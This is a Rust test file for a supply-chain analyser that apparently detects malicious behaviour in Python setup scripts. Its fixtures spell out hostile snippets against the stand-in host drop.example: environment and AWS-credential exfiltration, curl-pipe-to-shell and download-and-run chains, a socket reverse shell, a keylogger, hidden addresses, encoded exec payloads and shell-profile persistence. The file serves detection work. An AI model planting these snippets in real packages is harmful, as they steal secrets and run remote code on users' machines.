//! The ways that things take to where they are sent or run, one case a way: commands, files, libraries that send,
//! addresses that are hidden, and what is read into objects.

use crate::{SourceFile, Stage, analyse_package};
use wellhead_core::Budget;

/// The kinds and sources of all calls with an effect.
fn told(text: &str) -> Vec<String> {
    let files = [SourceFile {
        path: "setup.py",
        text,
    }];
    let analysis = analyse_package(&files, &mut Budget::default());
    let told = analysis.records.iter().map(|r| {
        let sources: Vec<&str> = r.sources.iter().map(|s| s.name()).collect();
        let told = format!("{} <- {}", r.kind.name(), sources.join(" "));
        told.strip_suffix(" <- ").unwrap_or(&told).to_owned()
    });
    told.collect()
}

/// That a text is told as it is expected; where that has no source, nothing else has one.
fn expect(text: &str, expected: &str) {
    let told = told(text);
    assert!(told.iter().any(|t| t == expected), "{text}\n{told:#?}");
    let harmless = !expected.contains("<-");
    assert!(
        !harmless || told.iter().all(|t| !t.contains("<-")),
        "{text}\n{told:#?}"
    );
}

#[test]
fn what_commands_tell_is_sent_and_what_they_fetch_is_run() {
    for (text, expected) in [
        (
            r#"
import os
os.system('curl "https://drop.example/$(env | base64 -w 0)"')"#,
            "network-send <- bulk-environment",
        ),
        (
            r#"
import os
w = os.popen('whoami').read()
os.system('curl -d "%s" https://drop.example' % w)"#,
            "network-send <- host-identity",
        ),
        (
            r"
import os, base64, subprocess
e = {}
for k, v in os.environ.items():
    e[k] = v
b = base64.b64encode(str(e).encode()).decode()
subprocess.check_output(['curl', f'https://drop.example/?e={b}'])",
            "network-send <- bulk-environment",
        ),
        (
            r"
import os, base64
s = base64.b64encode(b'id')
os.system('echo %s|base64 -d|bash' % s)",
            "process <- decoded",
        ),
        (
            r"
import subprocess
subprocess.run('curl https://drop.example/p | perl -', shell=True)",
            "process <- network",
        ),
        (
            r"
import os, sys
os.system(f'{sys.executable} -m pip install https://drop.example/a.tar.gz')",
            "process <- network",
        ),
        (
            r"
import os
os.system('curl https://drop.example/x -o /tmp/run')
os.system('chmod +x /tmp/run')
os.system('/tmp/run')",
            "write-then-run <- network",
        ),
        (
            r"
import os, git, subprocess
p = os.path.join('C:', 'repo')
git.Repo.clone_from('https://git.example/a.git', p)
os.chdir(p)
subprocess.run(['python', 'run.py'])",
            "write-then-run <- network",
        ),
        (
            r#"
import os
os.system("python3 -c \"import requests, os; requests.post('https://drop.example', json=dict(os.environ))\"")"#,
            "network-send <- bulk-environment",
        ),
        // Bytes of a pickle that names `builtins.exec`.
        (
            r"
import base64, pickle, zlib
pickle.loads(zlib.decompress(base64.b64decode('eJxrYOnhSCrNzCnJzCvuYUmtSE2e3MNSkFhc3BqkBwCXegqX')))",
            "execute <- decoded",
        ),
        (
            "import subprocess\nsubprocess.Popen(['python3', '-c', 'from thing import manager'], close_fds=True)\n",
            "process <- other-package",
        ),
        // Programs that are started as always.
        (
            "import subprocess, sys\nsubprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\n",
            "process",
        ),
        (
            "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n",
            "process",
        ),
        (
            r"
import os, subprocess
subprocess.run(['make'], env=os.environ)
subprocess.run(['curl', '-O', 'https://data.example/x.csv'])
subprocess.run([os.environ['PYTHON'], '-m', 'pip', 'install', '-i', 'https://mirror.example', 'numpy'])",
            "process",
        ),
    ] {
        expect(text, expected);
    }
}

#[test]
fn files_are_followed_from_where_they_are_written_to_where_they_run() {
    for (text, expected) in [
        (
            r"
import os, requests
with open('m.py', 'wb') as f:
    f.write(requests.get('https://drop.example').content)
os.system('py m.py')",
            "write-then-run <- network",
        ),
        (
            r"
import os, requests
from pathlib import Path
open('a.exe', 'wb').write(requests.get('https://drop.example').content)
Path('a.exe').rename(r'C:\x\b.exe')
os.startfile(r'C:\x\b.exe')",
            "write-then-run <- network",
        ),
        (
            r"
import os, stat, urllib.request
r = urllib.request.urlopen('https://drop.example').read()
d = open('.drv', 'wb')
d.write(r)
os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)",
            "write-then-run <- network",
        ),
        (
            r"
import os, sys
from tempfile import NamedTemporaryFile as N
t = N(delete=False)
t.write(b'from urllib.request import urlopen as u;e=exec;e(u(1).read())')
t.close()
os.system(f'start {sys.executable} {t.name}')",
            "execute <- network",
        ),
        (
            r"
import os, sys, subprocess
C = '''
import requests
exec(requests.get('https://drop.example').text)
'''
f = open('r.py', 'w')
f.write(C)
d = os.path.expanduser('~')
if sys.platform == 'win32':
    d = os.path.expanduser('~/Documents')
os.rename('r.py', d + '/r.py')
subprocess.Popen(['python', d + '/r.py'])",
            "execute <- network",
        ),
        (
            r#"
import io, os, zipfile, urllib.request
from tempfile import gettempdir
from secrets import token_hex
d = os.path.join(gettempdir(), token_hex(4))
z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen('https://drop.example').read()))
z.extractall(d)
os.system(f'cd "{d}" & python main.py')"#,
            "write-then-run <- network",
        ),
        (
            r"
import os, requests
p = 'c:/python/site-packages/x'
with open(p + '/__init__.py', 'w+') as f:
    f.write(requests.get('https://drop.example').text)",
            "write-then-run <- network",
        ),
        (
            r"
import os, requests
with open('p.txt', 'w') as f:
    f.write(str(dict(os.environ)))
requests.post('https://drop.example', files={'f': open('p.txt', 'rb')})",
            "network-send <- bulk-environment file",
        ),
        (
            r"
import os, sys, urllib.request
from random import choice
def folder():
    return choice(os.listdir(os.getenv('TEMP')))
def put(path):
    open(path, 'w').write(urllib.request.urlopen('https://drop.example').read().decode())
def run(path):
    os.system(f'start {sys.executable} {path}')
there = folder() + '\\' + folder()
put(there)
run(there)",
            "write-then-run <- network",
        ),
        // What is fetched and kept is data.
        (
            r"
import requests, subprocess
open('data.csv', 'wb').write(requests.get('https://data.example').content)
subprocess.run(['ls', '-l'])",
            "process",
        ),
        (
            r"
import subprocess
def get(url, to):
    subprocess.run(['git', 'clone', url, to])
get('https://git.example/a', 'work/a')
get('https://git.example/b', 'work/a')",
            "process",
        ),
        (
            r"
import requests, subprocess
open('run', 'wb').write(requests.get('https://data.example').content)
subprocess.run(['runner', '/tmp/rerun.sh'])",
            "process",
        ),
    ] {
        expect(text, expected);
    }
}

#[test]
fn libraries_that_send_are_known_by_their_own_names() {
    for text in [
        "from discord import SyncWebhook\nw = SyncWebhook.from_url('https://discord.example/x')\nw.send(content=f'{H}')\n",
        "import discord, aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        \
         w = discord.Webhook.from_url('https://discord.example/x', session=s)\n        await w.send(H)\nimport asyncio\nasyncio.run(go())\n",
        "from dhooks import Webhook\nWebhook('https://discord.example/x').send(H)\n",
        "import telebot\nb = telebot.TeleBot('1:x')\nb.send_message(1, H)\n",
        "import dropbox\nc = dropbox.Dropbox('x')\nc.files_upload(H.encode(), '/x')\n",
        "import ftplib, io\nf = ftplib.FTP('ftp.example', 'u', 'p')\nf.storbinary('STOR x', io.BytesIO(H.encode()))\n",
        "import http.client\nc = http.client.HTTPSConnection('drop.example')\nc.request('POST', '/', H)\n",
        "import socket\ns = socket.socket()\ns.connect(('drop.example', 1))\ns.sendall(H.encode())\n",
        "import urllib.requests\nurllib.requests.urlopen('https://drop.example/?h=' + H)\n",
    ] {
        expect(
            &format!("import socket\nH = socket.gethostname()\n{text}"),
            "network-send <- host-identity",
        );
    }
}

#[test]
fn an_address_that_is_hidden_in_data_is_told() {
    // `https://drop.example/x`
    let address = "aHR0cHM6Ly9kcm9wLmV4YW1wbGUveA==";
    for (text, hidden) in [
        (
            "requests.post(base64.b64decode('ADDRESS').decode(), json={'key': key})",
            true,
        ),
        (
            "requests.post(url=base64.b64decode('ADDRESS'), json={'key': key})",
            true,
        ),
        (
            "requests.request('POST', base64.b64decode('ADDRESS').decode(), json=key)",
            true,
        ),
        (
            "requests.post('https://api.example', json={'key': base64.b64decode('ADDRESS')})",
            false,
        ),
        (
            "requests.post('https://api.example', headers={'a': base64.b64decode(key)})",
            false,
        ),
        ("requests.get(base64.b64decode(key).decode())", false),
    ] {
        let text = text.replace("ADDRESS", address);
        let told = told(&format!("import base64, requests\ndef f(key):\n    {text}\n"));
        let is_hidden = told.iter().any(|t| t.contains("hidden-address"));
        assert_eq!(is_hidden, hidden, "{text}\n{told:#?}");
    }
}

#[test]
fn a_host_that_is_hidden_in_data_is_told_of_what_is_made_from_it() {
    // `drop.example` and `https://drop.example/x`
    for text in [
        "import socket\ns = socket.socket()\ns.connect((base64.b64decode('ZHJvcC5leGFtcGxl').decode(), 443))\n",
        "import http.client\nhttp.client.HTTPSConnection(base64.b64decode('ZHJvcC5leGFtcGxl').decode()).request('POST', '/')\n",
        "from discord_webhook import DiscordWebhook\nDiscordWebhook(url=base64.b64decode('aHR0cHM6Ly9kcm9wLmV4YW1wbGUveA==')).execute()\n",
    ] {
        let told = told(&format!("import base64\n{text}"));
        assert!(
            told.iter().any(|t| t.contains("hidden-address")),
            "{text}\n{told:#?}"
        );
    }
}

#[test]
fn what_a_setup_script_guards_runs_when_it_is_installed() {
    let stage = |path: &str| {
        let text = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
        let files = [SourceFile { path, text }];
        let analysis = analyse_package(&files, &mut Budget::default());
        analysis.records.first().map(|r| r.stage)
    };
    for (path, expected) in [
        ("setup.py", Stage::Import),
        ("pkg/__main__.py", Stage::Import),
        ("pkg/__init__.py", Stage::Call),
        ("pkg/setup.py", Stage::Call),
    ] {
        assert_eq!(stage(path), Some(expected), "{path}");
    }
}

#[test]
fn what_is_computed_and_put_where_it_runs_is_hidden() {
    for (text, expected) in [
        (
            r"
h = ''.join([chr(ord(c) - 1) for c in 'dvsm!iuuqt;00espq/fybnqmf!}!tif'])
with open('/home/u/.profile', 'a') as k:
    k.write(h)",
            "write-then-run <- decoded",
        ),
        (
            r"
with open('/home/u/.profile', 'a') as k:
    k.write('export PATH=$PATH:$HOME/.tool/bin')",
            "persistence",
        ),
    ] {
        expect(text, expected);
    }
}

#[test]
fn what_others_say_or_type_is_followed() {
    for (text, expected) in [
        (
            r"
import socket, subprocess
s = socket.socket()
s.connect(('drop.example', 1))
subprocess.Popen(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno())",
            "process <- network",
        ),
        (
            r"
import sys, urllib.request
open('/tmp/m.py', 'wb').write(urllib.request.urlopen('https://drop.example').read())
sys.path.insert(0, '/tmp')
import m",
            "write-then-run <- network",
        ),
        (
            r"
from pynput.keyboard import Listener
import requests
def told(key):
    requests.post('https://drop.example', data=str(key))
with Listener(on_press=told) as one:
    one.join()",
            "network-send <- keystrokes",
        ),
        (
            r"
import subprocess
subprocess.Popen('mshta https://drop.example/a.hta')",
            "process <- network",
        ),
        (
            r"
from cryptography.fernet import Fernet
key = b'Qr7oVvkrPTPnNyZVh2mBhqZ0Iu6VxHbLm7b4hDkV5lk='
exec(Fernet(key).decrypt(token))",
            "execute <- decoded",
        ),
    ] {
        expect(text, expected);
    }
    // A module of its own that is written before it is imported.
    let version = "open('pkg/_version.py', 'w').write('version = 1')\nimport pkg._version\n";
    assert_eq!(told(version), Vec::<String>::new());
}

#[test]
fn old_and_open_ways_are_followed_like_others() {
    for (text, expected) in [
        (
            "import urllib2\nprint 'x'\nexec urllib2.urlopen('https://drop.example').read()\n",
            "execute <- network",
        ),
        (
            "import base64\nexec base64.b64decode('cHJpbnQoJ2FiY2RlZicp') in globals()\n",
            "execute <- decoded",
        ),
        (
            "from os import *\nfrom requests import *\npost('https://drop.example', json=dict(environ))\n",
            "network-send <- bulk-environment",
        ),
        (
            r"
import asyncio, os
async def go():
    r, w = await asyncio.open_connection('drop.example', 1)
    w.write(str(dict(os.environ)).encode())
asyncio.run(go())",
            "network-send <- bulk-environment",
        ),
        (
            r"
import os, urllib.request
f = os.memfd_create('x')
os.write(f, urllib.request.urlopen('https://drop.example').read())
os.execve(f'/proc/self/fd/{f}', ['x'], {})",
            "write-then-run <- network",
        ),
        (
            r"
import ctypes, urllib.request
b = urllib.request.urlopen('https://drop.example').read()
p = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x1000, 0x40)
ctypes.memmove(p, b, len(b))",
            "native-memory <- network",
        ),
        (
            "import os\nexec(os.popen('curl -s https://drop.example/a.py').read())\n",
            "execute <- network",
        ),
        // A copy between buffers of its own.
        (
            "import ctypes, requests\nb = requests.get('https://data.example').content\nctypes.memmove(ctypes.create_string_buffer(9), b, 9)\n",
            "network-send",
        ),
    ] {
        expect(text, expected);
    }
}

#[test]
fn constants_of_libraries_are_known() {
    for text in [
        r"
import string
a = string.ascii_letters
b = a[::-1]
exec(''.join([b[a.index(c)] if c in b else c for c in 'RNKLIG LH; LH.HBHGVN(1)']))",
        r"
from string import ascii_lowercase as a
exec(''.join(a[n] for n in (18, 24, 18, 19, 4, 12)) + '(1)')",
    ] {
        expect(text, "execute <- decoded");
    }
}

#[test]
fn what_is_read_into_an_object_is_found_in_it() {
    for (text, expected) in [
        (
            r"
import os, configparser, requests
c = configparser.RawConfigParser()
c.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))
out = []
for s in c.sections():
    out.append({'k': c.get(s, 'aws_secret_access_key')})
requests.post('https://drop.example', json=out)",
            "network-send <- credential-file",
        ),
        (
            r"
import requests
from winreg import OpenKey, HKEY_CURRENT_USER, EnumValue
k = OpenKey(HKEY_CURRENT_USER, 'SOFTWARE')
n, v, t = EnumValue(k, 0)
requests.post('https://drop.example', json={'c': v})",
            "network-send <- file",
        ),
        (
            r"
from flask import Flask, request
import subprocess
app = Flask(__name__)
@app.route('/x')
def x():
    subprocess.Popen(request.args.get('c'), shell=True)",
            "process <- network",
        ),
        (
            r"
import base64
def a(x):
    try:
        return open(x).missing
    except Exception:
        return 'aW1w'
def b(x):
    try:
        x = x + y
    except Exception:
        return 'b3J0IG9z'
exec(base64.b64decode(b(1) + b(2)))",
            "execute <- decoded",
        ),
        (
            r"
import configparser, requests
c = configparser.ConfigParser()
c.read('tool.ini')
requests.get(c.get('main', 'url'))",
            "network-send",
        ),
    ] {
        expect(text, expected);
    }
}
